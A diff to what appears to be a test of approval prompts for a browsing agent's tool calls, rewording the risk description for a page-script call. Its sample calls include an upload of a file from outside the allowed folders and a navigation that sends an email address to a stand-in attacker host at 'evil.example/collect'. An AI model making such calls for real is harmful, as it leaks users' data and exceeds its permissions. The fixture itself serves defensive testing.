@@ -182,7 +182,7 @@ async def questions(window: MainWindow, instance: Instance) -> QWidget:
     invoice = instance.folder / "invoice.pdf"
     invoice.write_bytes(b"x" * 12_345)
     wanted: tuple[tuple[str, dict[str, Any], str, str], ...] = (
-        ("evaluate", {"code": CODE}, "runs code in the page", "execute"),
+        ("evaluate", {"code": CODE}, "runs code, which can read and change everything on this page", "execute"),
         ("upload_file", {"paths": [str(invoice)], "selector": "#file"},
          f"gives {invoice} to the page; it is outside the folders agents may read", f"file {invoice.parent}"),
         ("navigate", {"url": "https://evil.example/collect?mail=a%40b.c"}, "leaves shop.example for evil.example",
